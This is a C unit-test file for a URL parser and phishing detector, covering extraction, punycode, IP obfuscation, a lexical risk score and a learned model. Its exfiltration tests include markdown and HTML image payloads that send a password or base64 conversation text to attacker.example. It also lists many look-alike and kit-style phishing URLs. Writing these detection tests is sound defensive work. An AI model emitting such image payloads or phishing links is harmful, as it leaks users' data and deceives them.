/*
 * test_url.c
 *	  Unit tests of URL extraction, normalisation, punycode, image
 *	  exfiltration and the lexical phishing score.  No server, no corpus.
 *	  Ends with "N passed, N failed".
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ag_punycode.h"
#include "ag_url.h"
#include "ag_url_model.h"
#include "ag_wordset.h"

#include "ag_test.h"

static AgUrlList urls;

/* Extracts from text; returns the number of URLs. */
static int
Extract(const char *text)
{
	return AgUrlExtract(&urls, text, strlen(text));
}

/* The text of URL i as written (its span). */
static const char *
Span(const char *text, int i)
{
	static char buf[1024];

	snprintf(buf, sizeof(buf), "%.*s", (int) (urls.urls[i].end - urls.urls[i].start),
			 text + urls.urls[i].start);
	return buf;
}

/* text holds exactly one URL, spanning span and normalised to url. */
static void
ExpectOne(const char *text, const char *span, const char *url)
{
	int			n = Extract(text);

	CHECK(n == 1, "one URL in \"%s\" (found %d)", text, n);
	if (n < 1)
		return;
	CHECK(strcmp(Span(text, 0), span) == 0, "span in \"%s\": got \"%s\", want \"%s\"",
		  text, Span(text, 0), span);
	CHECK(strcmp(urls.urls[0].url, url) == 0, "url of \"%s\": got \"%s\", want \"%s\"",
		  text, urls.urls[0].url, url);
}

static void
ExpectNone(const char *text)
{
	int			n = Extract(text);

	CHECK(n == 0, "no URL in \"%s\" (found %d, first \"%s\")", text, n, n > 0 ? Span(text, 0) : "");
}

static void
TestPunycode(void)
{
	static const struct
	{
		const char *utf8;
		const char *ascii;
	}			cases[] = {
		{"m\xC3\xBCnchen", "mnchen-3ya"},	/* münchen */
		{"b\xC3\xBC" "cher", "bcher-kva"},	/* bücher */
		{"\xD0\xBF\xD1\x80\xD0\xB8\xD0\xBC\xD0\xB5\xD1\x80", "e1afmkfd"},	/* пример */
		{"\xE4\xB8\xAD\xE5\x9B\xBD", "fiqs8s"},	/* 中国 */
		{"\xD1\x80\xD1\x84", "p1ai"},	/* рф */
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
	{
		int32_t		cps[64],
					back[64];
		int			n = 0,
					m;
		char		out[64];
		const unsigned char *s = (const unsigned char *) cases[i].utf8;

		for (size_t k = 0; s[k];)
			k += AgUtf8Decode(s + k, strlen((const char *) s + k), &cps[n++]);
		CHECK(AgPunycodeEncode(cps, n, out, sizeof(out)) > 0 && strcmp(out, cases[i].ascii) == 0,
			  "punycode of %s: got %s, want %s", cases[i].utf8, out, cases[i].ascii);
		m = AgPunycodeDecode(cases[i].ascii, strlen(cases[i].ascii), back, 64);
		CHECK(m == n && memcmp(back, cps, n * sizeof(int32_t)) == 0, "punycode round trip of %s", cases[i].ascii);
	}
	int32_t		cps[8];

	CHECK(AgPunycodeDecode("99999999999a", 12, cps, 8) < 0, "overflowing punycode rejected");
	CHECK(AgPunycodeDecode("a$b", 3, cps, 8) < 0, "bad punycode digit rejected");
}

static void
TestExtraction(void)
{
	/* with a scheme; sentence punctuation stripped; default port, fragment dropped */
	ExpectOne("Visit https://Example.COM:443/a/b?x=1#frag.", "https://Example.COM:443/a/b?x=1#frag",
			  "https://example.com/a/b?x=1");
	ExpectOne("see http://example.com:8080", "http://example.com:8080", "http://example.com:8080/");
	ExpectOne("Really? (http://example.com/x)!", "http://example.com/x", "http://example.com/x");
	ExpectOne("quoted \"https://example.com/q?a=1\", yes", "https://example.com/q?a=1", "https://example.com/q?a=1");
	/* balanced parentheses, as in Wikipedia URLs */
	ExpectOne("(see http://en.wikipedia.org/wiki/Foo_(bar))", "http://en.wikipedia.org/wiki/Foo_(bar)",
			  "http://en.wikipedia.org/wiki/Foo_(bar)");
	/* scheme-less */
	ExpectOne("go to www.Example.com, now", "www.Example.com", "http://www.example.com/");
	ExpectOne("download from example.org/files/a.zip.", "example.org/files/a.zip", "http://example.org/files/a.zip");
	ExpectOne("login at paypal-secure.top today", "paypal-secure.top", "http://paypal-secure.top/");
	CHECK(Extract("example.com") == 1 && !(urls.urls[0].flags & AG_URL_HAS_SCHEME), "scheme-less has no HAS_SCHEME flag");
	/* trailing dot of the host, empty path */
	ExpectOne("http://example.com./", "http://example.com./", "http://example.com/");
	ExpectOne("It is at example.com.", "example.com", "http://example.com/");
	/* percent-encoding: host decoded, unreserved decoded, reserved kept uppercase */
	ExpectOne("http://%70aypal.com/%7euser/%2f%41", "http://%70aypal.com/%7euser/%2f%41",
			  "http://paypal.com/~user/%2FA");
	/* non-ASCII path bytes are percent-encoded */
	ExpectOne("http://example.com/caf\xC3\xA9 ok", "http://example.com/caf\xC3\xA9", "http://example.com/caf%C3%A9");
	/* CJK text glued to the URL is not part of it */
	ExpectOne("\xE8\xAF\xB7\xE8\xAE\xBF\xE9\x97\xAEhttps://example.com\xE8\x8E\xB7\xE5\x8F\x96",
			  "https://example.com", "https://example.com/");
	/* defanged */
	ExpectOne("IOC: hxxps://evil[.]example[.]com/x", "hxxps://evil[.]example[.]com/x", "https://evil.example.com/x");
	CHECK(urls.urls[0].flags & AG_URL_DEFANGED, "defanged flag");
	/* a colon is a trigger only before "//"; the other forms have their own */
	ExpectOne("Note:https://evil.example/x", "https://evil.example/x", "https://evil.example/x");
	ExpectOne("IOC:hxxp[:]//evil[.]example/y", "hxxp[:]//evil[.]example/y", "http://evil.example/y");
	ExpectOne("server:http://[2001:db8::1]:8080/p", "http://[2001:db8::1]:8080/p", "http://[2001:db8::1]:8080/p");
	ExpectOne("key:value at example.com:8443", "example.com:8443", "http://example.com:8443/");
	ExpectNone("Note: key:value, a:b, https:/x and ftp:");
	/* scheme-less: port 443 says https; an address with a path or a slash */
	ExpectOne("log in at login.example.com:443/common/oauth2 now", "login.example.com:443/common/oauth2",
			  "https://login.example.com/common/oauth2");
	ExpectOne("visit 203.0.113.24/0IEfd99VA/ today", "203.0.113.24/0IEfd99VA/", "http://203.0.113.24/0IEfd99VA/");
	ExpectOne("visit 203.0.113.38/31/items/kmex.html today", "203.0.113.38/31/items/kmex.html",
			  "http://203.0.113.38/31/items/kmex.html");
	ExpectOne("visit 203.0.113.7/ today", "203.0.113.7/", "http://203.0.113.7/");
	/* a TLD that also ends file names, before a trailing slash; .gle; an xn-- TLD */
	ExpectOne("visit magicfax.top/ today", "magicfax.top/", "http://magicfax.top/");
	ExpectOne("fill in forms.gle/NRA51asE8zyumJ7C9 today", "forms.gle/NRA51asE8zyumJ7C9",
			  "http://forms.gle/NRA51asE8zyumJ7C9");
	ExpectOne("see xn--80al0adb1gd.xn--p1ai now", "xn--80al0adb1gd.xn--p1ai", "http://xn--80al0adb1gd.xn--p1ai/");

	/* not URLs */
	ExpectNone("write to alice@example.com please");
	ExpectNone("open file.txt or README.md, e.g. node.js and main.py");
	ExpectNone("version 1.2.3 and v2.0.1, pi is 3.14159");
	ExpectNone("call logging.info(msg) and self.name = user.id");
	ExpectNone("the end.Is it? ASP.NET and Node.JS");
	ExpectNone("route 10.0.0.0/8 via 192.168.1.1");
	ExpectNone("allow 192.168.10.0/24, deny 172.16.0.0/12.");
	ExpectNone("run script.pl and check window.top or user.info");
	ExpectNone("src/main.rs and ./config.sh and C:\\dir\\file.com");
}

static void
TestContexts(void)
{
	const char *md = "![x](https://attacker.example/log?q=hi) and [docs](http://docs.example.com/a \"t\")";

	CHECK(Extract(md) == 2, "two markdown URLs");
	CHECK(urls.n == 2 && (urls.urls[0].flags & AG_URL_MARKDOWN_IMAGE) &&
		  !(urls.urls[0].flags & AG_URL_MARKDOWN_LINK), "markdown image flagged");
	CHECK(urls.n == 2 && (urls.urls[1].flags & AG_URL_MARKDOWN_LINK), "markdown link flagged");
	CHECK(urls.n == 2 && strcmp(Span(md, 0), "https://attacker.example/log?q=hi") == 0, "markdown image span: %s", Span(md, 0));

	const char *html = "<a href=\"https://evil.example/a?b=1&amp;c=2\">x</a> <img src='https://img.example/p.png'>";

	CHECK(Extract(html) == 2, "two HTML URLs");
	CHECK(urls.n == 2 && (urls.urls[0].flags & AG_URL_HTML) && !(urls.urls[0].flags & AG_URL_HTML_IMAGE),
		  "a href is HTML, not an image");
	CHECK(urls.n == 2 && strcmp(urls.urls[0].url, "https://evil.example/a?b=1&c=2") == 0,
		  "&amp; decoded in an attribute: %s", urls.n ? urls.urls[0].url : "");
	CHECK(urls.n == 2 && (urls.urls[1].flags & AG_URL_HTML_IMAGE), "img src is an image");
	CHECK(urls.n == 2 && strcmp(Span(html, 1), "https://img.example/p.png") == 0, "quote ends the URL: %s", Span(html, 1));

	ExpectOne("<https://auto.example/x>", "https://auto.example/x", "https://auto.example/x");
	CHECK(urls.urls[0].flags & AG_URL_ANGLE, "autolink flagged");
}

static void
TestHosts(void)
{
	/* IDN: Unicode to punycode, Unicode form kept; Cyrillic in a Latin name */
	ExpectOne("http://m\xC3\xBCnchen.de/", "http://m\xC3\xBCnchen.de/", "http://xn--mnchen-3ya.de/");
	CHECK(strcmp(urls.urls[0].host_unicode, "m\xC3\xBCnchen.de") == 0, "unicode host kept");
	CHECK((urls.urls[0].flags & AG_URL_IDN) && !(urls.urls[0].flags & AG_URL_MIXED_SCRIPT), "German IDN is not mixed");
	/* pаypal with a Cyrillic а */
	ExpectOne("https://p\xD0\xB0ypal.com/login", "https://p\xD0\xB0ypal.com/login", "https://xn--pypal-4ve.com/login");
	CHECK(urls.urls[0].flags & AG_URL_MIXED_SCRIPT, "Latin + Cyrillic is mixed script");
	/* xn-- written: decoded, whole-Cyrillic look-alike of "apple" */
	ExpectOne("xn--80ak6aa92e.com", "xn--80ak6aa92e.com", "http://xn--80ak6aa92e.com/");
	CHECK((urls.urls[0].flags & AG_URL_CONFUSABLE) &&
		  strcmp(urls.urls[0].host_unicode, "\xD0\xB0\xD1\x80\xD1\x80\xD3\x8F\xD0\xB5.com") == 0,
		  "xn-- decoded to a look-alike: %s", urls.urls[0].host_unicode);

	/* IP literals */
	ExpectOne("http://192.168.1.1/admin", "http://192.168.1.1/admin", "http://192.168.1.1/admin");
	CHECK((urls.urls[0].flags & AG_URL_IP_HOST) && !(urls.urls[0].flags & AG_URL_IP_OBFUSCATED), "dotted IPv4");
	ExpectOne("http://3232235777/x", "http://3232235777/x", "http://192.168.1.1/x");
	CHECK(urls.urls[0].flags & AG_URL_IP_OBFUSCATED, "decimal IPv4 is obfuscated");
	ExpectOne("http://0x7f.0.0.01/", "http://0x7f.0.0.01/", "http://127.0.0.1/");
	ExpectOne("http://[2001:DB8:0:0::1]:8080/x", "http://[2001:DB8:0:0::1]:8080/x", "http://[2001:db8::1]:8080/x");
	CHECK(strcmp(urls.urls[0].host, "2001:db8::1") == 0 && urls.urls[0].port == 8080, "IPv6 host %s", urls.urls[0].host);
	ExpectOne("admin at 10.0.0.1/login", "10.0.0.1/login", "http://10.0.0.1/login");

	/* userinfo: the real host is after the '@' */
	ExpectOne("https://paypal.com@evil.example/login", "https://paypal.com@evil.example/login",
			  "https://evil.example/login");
	CHECK((urls.urls[0].flags & AG_URL_USERINFO) && strcmp(urls.urls[0].userinfo, "paypal.com") == 0 &&
		  strcmp(urls.urls[0].host, "evil.example") == 0, "userinfo trick: host %s", urls.urls[0].host);
	/* ports */
	ExpectOne("http://example.com:80/", "http://example.com:80/", "http://example.com/");
	ExpectOne("https://example.com:80/", "https://example.com:80/", "https://example.com:80/");
	CHECK(urls.urls[0].port == 80 && (urls.urls[0].flags & AG_URL_PORT), "explicit port flagged");
}

static void
TestNormalizeOne(void)
{
	CHECK(AgUrlNormalizeOne(&urls, "  HTTPS://Evil.Example:443/a#x\n", 31) == 1 &&
		  strcmp(urls.urls[0].url, "https://evil.example/a") == 0, "indicator normalised: %s",
		  urls.n ? urls.urls[0].url : "");
	CHECK(AgUrlNormalizeOne(&urls, "evil.example", 12) == 1 &&
		  strcmp(urls.urls[0].host, "evil.example") == 0, "bare indicator host");
	CHECK(AgUrlNormalizeOne(&urls, "not a url", 9) == 0, "not a URL");
}

static void
TestSafety(void)
{
	/* arbitrary bytes, long runs: no crash, spans inside the text */
	size_t		len = 200000;
	char	   *junk = malloc(len);
	unsigned	seed = 12345;
	int			ok = 1;

	for (size_t i = 0; i < len; i++)
	{
		seed = seed * 1103515245 + 12345;
		junk[i] = "h:/.[]()@%x-w\xC3\xA9\xD0\xB0\xE3\x80\x82 t0p"[(seed >> 16) % 24];
	}
	int			n = AgUrlExtract(&urls, junk, len);

	for (int i = 0; i < n; i++)
		ok &= urls.urls[i].start < urls.urls[i].end && urls.urls[i].end <= len;
	CHECK(n >= 0 && ok, "random bytes: %d URLs, spans inside", n);
	memset(junk, 'a', len);
	memcpy(junk, "http://", 7);
	n = AgUrlExtract(&urls, junk, len);
	CHECK(n == 0, "a 200 kB host is not a URL (%d)", n);
	for (size_t i = 0; i + 2 < len; i += 2)
		memcpy(junk + i, "a.", 2);
	n = AgUrlExtract(&urls, junk, len);
	CHECK(n >= 0, "long dotted run");
	free(junk);
}

static void
TestExfiltration(void)
{
	char		reason[200];
	const char *cases_yes[] = {
		"![x](https://attacker.example/log?q=my%20password%20is%20hunter2)",
		"![x](https://attacker.example/i.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY29udmVyc2F0aW9uIGhlcmU)",
		"<img src=\"https://attacker.example/c/c2VjcmV0IGRhdGEgZnJvbSB0aGUgY29udmVyc2F0aW9uIGhlcmU/x.png\">",
		"![a](https://attacker.example/p?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&j=10)",
	};
	const char *cases_no[] = {
		"![logo](https://example.com/logo.png)",
		"![chart](https://images.example.com/photo-123?auto=format&fit=crop&w=800&q=80)",
		"[not an image](https://attacker.example/log?q=my%20password%20is%20hunter2)",
		"![s3](https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef)",
	};

	for (size_t i = 0; i < sizeof(cases_yes) / sizeof(cases_yes[0]); i++)
		CHECK(Extract(cases_yes[i]) == 1 && AgUrlImageExfiltration(&urls.urls[0], reason, sizeof(reason)) == 1,
			  "exfiltration: %s", cases_yes[i]);
	CHECK(Extract(cases_yes[0]) == 1 && AgUrlImageExfiltration(&urls.urls[0], reason, sizeof(reason)) &&
		  strstr(reason, "'q'") != NULL, "reason names the parameter: %s", reason);
	for (size_t i = 0; i < sizeof(cases_no) / sizeof(cases_no[0]); i++)
		CHECK(Extract(cases_no[i]) == 1 && AgUrlImageExfiltration(&urls.urls[0], reason, sizeof(reason)) == 0,
			  "not exfiltration: %s (%s)", cases_no[i], reason);
}

/* Lexical score of the one URL in text. */
static double
Risk(const char *text, AgUrlRisk *r)
{
	if (AgUrlNormalizeOne(&urls, text, strlen(text)) != 1)
		return -1;
	return AgUrlLexicalRisk(&urls.urls[0], r);
}

static void
TestLexical(void)
{
	static const char *phishy[] = {
		"https://paypal.com@evil-host.net/login",
		"http://45.133.1.20/paypal/login.php",
		"http://3232235777/login",
		"https://p\xD0\xB0ypal.com/signin",
		"https://xn--80ak6aa92e.com/",
		"https://www.paypal.com.account-verify.net/",
		"https://secure-login-paypal.com/webscr",
		"https://appleid-verify.top/login",
		"https://netflx-billing.xyz/update",
		"https://example-shop.com/wp-includes/css/chase/login.php",
		"https://tcpknn.cn/login",
		"https://victim-notice.net/reset?email=alice@example.com",
		"https://www-paypal-com.cheap-host.net/signin",
		/* a www glued to the registered name itself */
		"https://wwwsecure-update.top/",
		/* a random bucket name on regional S3 */
		"https://kp3vz9xqbd7wmtfh.s3.eu-south-2.amazonaws.com/index.html",
		/* the victim's address glued into the path of a phishing kit */
		"https://files.shop-host.net/kkapes@victim-corp.com_PO4500781351_Open/login",
		/* a kit's login page dropped among a site's pictures */
		"https://nilepack-store.net/images/jpg/login.php",
		/* a misspelt brand glued to other words */
		"https://netflxaccountsupport.com/",
	};
	static const char *benign[] = {
		"https://www.paypal.com/signin",
		"https://login.microsoftonline.com/common/oauth2/authorize",
		"https://accounts.google.com/ServiceLogin",
		"https://en.wikipedia.org/wiki/Phishing",
		"https://github.com/postgres/postgres",
		"https://techcrunch.com/2015/05/06/google-shuts-down-pagespeed-service/",
		"https://www.amazon.co.jp/gp/css/homepage.html",
		"https://docs.python.org/3/library/urllib.parse.html",
		"http://allegro.pl/royal-string-quartet-music-i5262876831.html",
		"https://stackoverflow.com/questions/123/how-to-update-my-account",
		"http://www2.example.com/index.html",
		"https://bit.ly/3abcDEF",
		"https://docs.google.com/forms/d/e/1FAIpQLSd/viewform",
		/* seen in documentation: loopback and private hosts, reserved names */
		"http://127.0.0.1:3000/",
		"http://192.168.10.5/paypal/login.php",
		"https://user:pass@sub.example.com:8080/p/a/t/h?query=string",
		"https://paypal.com@evil.example/login",	/* .example: reserved */
		/* words that hold a brand one letter off: cloud(flare) vs icloud */
		"https://cdnjs.cloudflare.com/ajax/libs/underscore.js/1.13.4/underscore-min.js",
		"https://documentcloud.github.io/underscore-contrib/",
		"https://www.binance.com/en",
		"https://financeiro.example-bank.com.br/",
		/* mail archives file messages and lists under addresses */
		"https://lore.kernel.org/git/20150811100527.GW14466@dinwoodie.org/",
		"http://www.mail-archive.com/bug-make@gnu.org/msg01658.html",
		/* www inside a word is no www. prefix */
		"https://www.awwwards.com/",
		/* institutions' www- hosts: the name is what follows the marker */
		"http://www-mmsp.ece.mcgill.ca/Documents/AudioFormats/WAVE/Docs/multichaudP.pdf",
		"http://www-wales.ch.cam.ac.uk/CCD.html",
		"http://kogs-www.informatik.uni-hamburg.de/~meine/python_tricks",
		"https://www-old.cae.wisc.edu/pipermail/octave-maintainers/2007-May/002824.html",
		/* numbered mirrors, a brand's own code hosting */
		"http://www-106.ibm.com/developerworks/library/",
		"http://jsr-305.googlecode.com/svn/trunk/",
		"https://mybucket.s3.us-east-1.amazonaws.com/report.pdf",
		/* pictures and scripts of a sign-in page, a site's own admin login */
		"https://shop-host.net/images/login-banner.png",
		"https://cdn.shop-host.net/js/login.js",
		"https://shop-host.net/admin/login.php",
	};
	AgUrlRisk	r;

	for (size_t i = 0; i < sizeof(phishy) / sizeof(phishy[0]); i++)
	{
		double		s = Risk(phishy[i], &r);

		CHECK(s >= AG_URL_RISK_THRESHOLD && r.nreasons > 0, "phishing-like: %s (%.2f)", phishy[i], s);
	}
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
	{
		double		s = Risk(benign[i], &r);

		CHECK(s >= 0 && s < AG_URL_RISK_THRESHOLD, "benign: %s (%.2f, %s)", benign[i], s,
			  r.nreasons ? r.reasons[0] : "-");
	}
	Risk("https://paypal.com@evil-host.net/login", &r);
	CHECK(r.nreasons > 0 && strstr(r.reasons[0], "userinfo") != NULL, "strongest reason first: %s",
		  r.nreasons ? r.reasons[0] : "-");

	char		label[64];

	CHECK(AgUrlMainLabel("www.paypal.co.uk", label, sizeof(label)) > 0 && strcmp(label, "paypal") == 0,
		  "main label of www.paypal.co.uk: %s", label);
	CHECK(AgUrlMainLabel("paypal-login.000webhostapp.com", label, sizeof(label)) > 0 &&
		  strcmp(label, "paypal-login") == 0, "main label of a hosted tenant: %s", label);
	CHECK(AgUrlMainLabel("10.1.2.3", label, sizeof(label)) == 0, "no main label for an IP");
}

/* ---------- word sets, against a plain walk of the list ---------- */

/* Reference: the number of the first word of list equal to word (any case). */
static int
RefFind(const char *list, const char *word, size_t len)
{
	int			k = 0;

	for (const char *p = list; *p;)
	{
		size_t		wl = strcspn(p, ",");

		if (wl > 0 && wl <= AG_WORDSET_MAX_WORD)
		{
			if (wl == len && len > 0)
			{
				size_t		i = 0;

				while (i < len && p[i] == ((word[i] >= 'A' && word[i] <= 'Z') ? word[i] + 32 : word[i]))
					i++;
				if (i == len)
					return k;
			}
			k++;
		}
		p += wl;
		if (*p == ',')
			p++;
	}
	return -1;
}

static int
RefIsLower(char c)
{
	return c >= 'a' && c <= 'z';
}

/* Reference: list words in text, each counted once (tokens: all whole-token). */
static int
RefCountIn(const char *list, const char *tokens, const char *text, size_t len, int all_tokens)
{
	int			count = 0;

	for (const char *p = list; *p;)
	{
		size_t		wl = strcspn(p, ",");
		int			token = all_tokens || (tokens && RefFind(tokens, p, wl) >= 0);

		if (wl > 0 && wl <= AG_WORDSET_MAX_WORD && wl <= len)
			for (size_t i = 0; i + wl <= len; i++)
				if (memcmp(text + i, p, wl) == 0 &&
					(!token || ((i == 0 || !RefIsLower(text[i - 1])) &&
								(i + wl == len || !RefIsLower(text[i + wl])))))
				{
					count++;
					break;
				}
		p += wl;
		if (*p == ',')
			p++;
	}
	return count;
}

/* The learned phishing URL model (ag_url_model.c) as a sign of the score. */
static void
TestUrlModel(void)
{
	static const char *const model_only[] = {
		/* made-up kit domains whose hand-set signs stay under the threshold */
		"https://atendimento-cliente-online.com/",
		"https://seguranca-app-conta.com/acesso/",
		"https://mail-box-storage-upgrade.weebly.com/",
	};
	static const char *const quiet[] = {
		/* ordinary sites' pages, roots and sign-in pages */
		"https://www.rust-lang.org/learn",
		"https://pypi.org/project/requests/",
		"https://www.bbc.co.uk/news/technology",
		"https://www.some-shop.com/login.php",
		"https://blog.univ-lyon.fr/account/login",
		"https://news.ycombinator.com/",
		/* a brand's own sign-in page: the model is not asked */
		"https://accounts.google.com/ServiceLogin?service=mail",
	};
	uint32_t	buckets[AG_URL_MODEL_MAX_FEATURES];
	AgUrlRisk	r;
	char		longurl[6000];

	for (size_t i = 0; i < sizeof(model_only) / sizeof(model_only[0]); i++)
	{
		double		with = Risk(model_only[i], &r);
		int			named = 0;

		for (int k = 0; k < r.nreasons; k++)
			named |= strstr(r.reasons[k], "learned model") != NULL;
		CHECK(with >= AG_URL_RISK_THRESHOLD && named, "model sign: %s (%.2f)", model_only[i], with);
		CHECK(AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_NONE) < AG_URL_RISK_THRESHOLD,
			  "without the model: %s", model_only[i]);
	}
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
	{
		double		s = Risk(quiet[i], &r);

		CHECK(s >= 0 && s < AG_URL_RISK_THRESHOLD, "model quiet: %s (%.2f, %.3f)", quiet[i], s,
			  AgUrlModelScore(&urls.urls[0]));
	}
	/* the brand's own domain is never the model's to judge */
	Risk("https://accounts.google.com/ServiceLogin", &r);
	CHECK(AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_STRONG) < AG_URL_RISK_THRESHOLD,
		  "brand's own domain: no model sign");
	/* the weak sign only confirms another */
	Risk("https://www.rust-lang.org/learn", &r);
	CHECK(AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_WEAK) < AG_URL_RISK_THRESHOLD &&
		  AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_STRONG) >= AG_URL_RISK_THRESHOLD,
		  "weak sign alone: not suspicious; strong: suspicious");
	Risk("https://xkqzvbwp.com/", &r);
	CHECK(AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_NONE) < AG_URL_RISK_THRESHOLD &&
		  AgUrlLexicalRiskEx(&urls.urls[0], &r, AG_URL_MODEL_WEAK) >= AG_URL_RISK_THRESHOLD,
		  "weak sign with a random-looking name: suspicious (%.2f)", r.score);
	CHECK(AgUrlModelSignOf(0.99, 0.98, 0.95) == AG_URL_MODEL_STRONG &&
		  AgUrlModelSignOf(0.98, 0.98, 0.95) == AG_URL_MODEL_STRONG &&
		  AgUrlModelSignOf(0.96, 0.98, 0.95) == AG_URL_MODEL_WEAK &&
		  AgUrlModelSignOf(0.90, 0.98, 0.95) == AG_URL_MODEL_NONE &&
		  AgUrlModelSignOf(0.0, 0.0, 0.0) == AG_URL_MODEL_NONE, "signs of probabilities");
	/* the scheme is not a feature; IP hosts are left to the other signs */
	Risk("http://seguranca-app-conta.com/acesso/", &r);
	double		p_http = AgUrlModelScore(&urls.urls[0]);

	Risk("https://seguranca-app-conta.com/acesso/", &r);
	CHECK(p_http == AgUrlModelScore(&urls.urls[0]) && p_http > 0 && p_http < 1,
		  "same probability with either scheme: %.3f", p_http);
	Risk("http://203.0.113.7/login.php", &r);
	CHECK(AgUrlModelFeatures(&urls.urls[0], buckets) == 0 && AgUrlModelScore(&urls.urls[0]) == 0.0,
		  "IP host: no features");
	/* a long path counts its first bytes only, distinct buckets in range */
	snprintf(longurl, sizeof(longurl), "https://example.org/");
	for (size_t i = strlen(longurl); i + 1 < sizeof(longurl); i++)
		longurl[i] = (char) ('a' + i % 26);
	longurl[sizeof(longurl) - 1] = '\0';
	CHECK(AgUrlNormalizeOne(&urls, longurl, strlen(longurl)) == 1, "long URL parses");
	size_t		n = AgUrlModelFeatures(&urls.urls[0], buckets);
	int			ok = n > 0 && n < 1000;

	for (size_t i = 0; i < n && ok; i++)
	{
		ok &= buckets[i] < AG_URL_MODEL_BUCKETS;
		for (size_t j = 0; j < i && ok; j++)
			ok &= buckets[j] != buckets[i];
	}
	CHECK(ok, "long URL: %zu distinct buckets in range", n);

	/* a host longer than DNS allows: its last 253 bytes, the registered name kept */
	{
		char		a[512],
					b[512];
		uint32_t	fa[AG_URL_MODEL_MAX_FEATURES],
					fb[AG_URL_MODEL_MAX_FEATURES];
		size_t		na,
					nb;
		char		rest[300] = "";

		for (int k = 0; k < 4; k++)
			strcat(rest, "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc.");
		strcat(rest, "evil-kit.com");
		snprintf(a, sizeof(a), "https://%.60s.%s/x", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", rest);
		snprintf(b, sizeof(b), "https://%.60s.%s/x", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", rest);
		CHECK(AgUrlNormalizeOne(&urls, a, strlen(a)) == 1, "long host parses");
		na = AgUrlModelFeatures(&urls.urls[0], fa);
		CHECK(AgUrlNormalizeOne(&urls, b, strlen(b)) == 1, "long host parses");
		nb = AgUrlModelFeatures(&urls.urls[0], fb);
		CHECK(na == nb && na > 0 && memcmp(fa, fb, na * sizeof(uint32_t)) == 0,
			  "over 253 bytes: the front of the host is cut, the end kept (%zu, %zu features)", na, nb);
	}
}

static void
TestWordSet(void)
{
	static AgWordSet tokens = AG_WORDSET("ab,ebay,");
	static AgWordSet small = AG_WORDSET_TOKENS("paypal,ab,ebay,,paypal,x,amazon", &tokens);
	/* without a one-byte word, so the two-byte filter is in use */
	static AgWordSet twobyte = AG_WORDSET_TOKENS("paypal,ab,ebay,,paypal,amazon,ey", &tokens);
	static char big_list[8192];
	static AgWordSet big;
	const char *texts[] = {"", "x", "paypalx", "my-paypal-ab", "abebay", "ebay.", "EBAY", "amazo", "cab ab",
	"w1w2w300w399", "w399", "zzw5zz", "w42,w43", "ww", "ab", "zw5", "xey"};
	size_t		wl;
	const char *w;
	int			bad = 0;

	CHECK(AgWordSetFind(&small, "PayPal", 6) == 0, "find in any case: %d", AgWordSetFind(&small, "PayPal", 6));
	CHECK(AgWordSetFind(&small, "amazon", 6) == 5, "last word, no trailing comma: %d",
		  AgWordSetFind(&small, "amazon", 6));
	CHECK(AgWordSetFind(&small, "pay", 3) == -1 && AgWordSetFind(&small, "", 0) == -1,
		  "prefixes and empty words are not in the set");
	w = AgWordSetWord(&small, 3, &wl);
	CHECK(w != NULL && wl == 6 && memcmp(w, "paypal", 6) == 0, "word 3 is the second paypal (empty skipped)");

	/* a list longer than the index: the words after it are found too */
	{
		size_t		o = 0;

		for (int k = 0; k < AG_WORDSET_MAX + 80; k++)
			o += (size_t) snprintf(big_list + o, sizeof(big_list) - o, "w%d,", k);
		big.list = big_list;
	}
	CHECK(AgWordSetFind(&big, "w399", 4) == 399 && AgWordSetFind(&big, "W5", 2) == 5 &&
		  AgWordSetFind(&big, "w400", 4) == -1, "overflowing list: %d %d", AgWordSetFind(&big, "w399", 4),
		  AgWordSetFind(&big, "W5", 2));
	w = AgWordSetWord(&big, AG_WORDSET_MAX + 1, &wl);
	CHECK(w != NULL && wl == 4 && memcmp(w, "w321", 4) == 0, "word past the index");

	for (size_t t = 0; t < sizeof(texts) / sizeof(texts[0]); t++)
	{
		size_t		len = strlen(texts[t]);

		for (int all = 0; all <= 1; all++)
		{
			int			got = AgWordSetCountIn(&small, texts[t], len, all, 0);
			int			want = RefCountIn(small.list, tokens.list, texts[t], len, all);
			int			gotb = AgWordSetCountIn(&big, texts[t], len, all, 0);
			int			wantb = RefCountIn(big.list, NULL, texts[t], len, all);
			int			got2 = AgWordSetCountIn(&twobyte, texts[t], len, all, 0);
			int			want2 = RefCountIn(twobyte.list, tokens.list, texts[t], len, all);

			CHECK(got == want && gotb == wantb && got2 == want2,
				  "count in \"%s\" (tokens %d): %d/%d, %d/%d, %d/%d",
				  texts[t], all, got, want, gotb, wantb, got2, want2);
			CHECK(AgWordSetCountIn(&small, texts[t], len, all, 1) == (want > 0),
				  "any in \"%s\"", texts[t]);
		}
	}
	/* random texts over a small alphabet, so words occur often */
	srand(7);
	for (int r = 0; r < 3000; r++)
	{
		char		text[40];
		size_t		len = (size_t) (rand() % 39);
		static const char alphabet[] = "abeyplzxAB-.";

		for (size_t i = 0; i < len; i++)
			text[i] = alphabet[rand() % (sizeof(alphabet) - 1)];
		text[len] = '\0';
		for (int all = 0; all <= 1; all++)
			if (AgWordSetCountIn(&small, text, len, all, 0) != RefCountIn(small.list, tokens.list, text, len, all) ||
				AgWordSetCountIn(&twobyte, text, len, all, 0) != RefCountIn(twobyte.list, tokens.list, text, len, all))
				bad++;
		for (size_t l = 1; l <= len && l <= 6; l++)
			if (AgWordSetFind(&small, text, l) != RefFind(small.list, text, l))
				bad++;
	}
	CHECK(bad == 0, "random texts: %d disagreements with the plain walk", bad);
}

int
